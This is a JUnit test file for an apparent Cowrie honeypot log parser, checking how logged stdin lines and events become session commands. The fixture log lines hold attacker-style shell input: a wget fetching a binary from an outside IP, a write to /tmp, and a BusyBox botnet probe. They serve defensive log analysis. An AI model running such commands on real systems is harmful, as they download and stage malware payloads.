package io.github.cowriekit.parser.session;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.parser.LogText;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Lines that a running program reads, which versions of Cowrie log as different events. */
class StdinLinesTest {
    private static final String CONNECT = LogText.line(
            "session.connect", 0, "\"src_port\":4000,\"dst_ip\":\"192.0.2.1\",\"dst_port\":2222,\"sensor\":\"pot\"");

    @ParameterizedTest
    @ValueSource(strings = {"command.input", "session.input", "command.success", "session.file_download"})
    void tellsTheLineWhicheverEventHasIt(String id) {
        Session session = LogText.of(
                        CONNECT,
                        LogText.line("command.input", 1, "\"input\":\"cat > /tmp/d\""),
                        LogText.line(id, 2, "\"input\":\"wget http://203.0.113.66/bin\",\"realm\":\"cat\""),
                        LogText.line("command.input", 3, "\"input\":\"id\""))
                .session();

        assertThat(session.commands())
                .extracting(Command::input)
                .containsExactly("cat > /tmp/d", "wget http://203.0.113.66/bin", "id");
        assertThat(session.commands()).extracting(Command::isShellLine).containsExactly(true, false, true);
        assertThat(session.commands().get(1).realm()).isEqualTo("cat");
        assertThat(session.downloads()).isEmpty();
        assertThat(session.notices()).isEmpty();
    }

    @Test
    void knowsALineOfAProgramThatTheLogDoesNotName() {
        Session session = LogText.of(CONNECT, LogText.line("session.input", 2, "\"input\":\"exit\""))
                .session();

        assertThat(session.commands()).singleElement().satisfies(line -> {
            assertThat(line.isShellLine()).isFalse();
            assertThat(line.realm()).isNull();
        });
    }

    @Test
    void takesAnAppletForNoCommandOfItsOwn() {
        Session session = LogText.of(
                        CONNECT,
                        LogText.line("command.input", 1, "\"input\":\"/bin/busybox ECCHI\""),
                        LogText.line("command.success", 2, "\"input\":\"cat\""))
                .session();

        assertThat(session.commands()).extracting(Command::input).containsExactly("/bin/busybox ECCHI");
        assertThat(session.notices()).hasSize(1);
    }

    @Test
    void keepsWhatFailedOutOfTheLinesWhenTheBeginningIsMissing() {
        Session session = LogText.of(LogText.line("command.failed", 2, "\"input\":\"foo\""))
                .session();

        assertThat(session.commands()).isEmpty();
        assertThat(session.notices()).hasSize(1);
    }
}
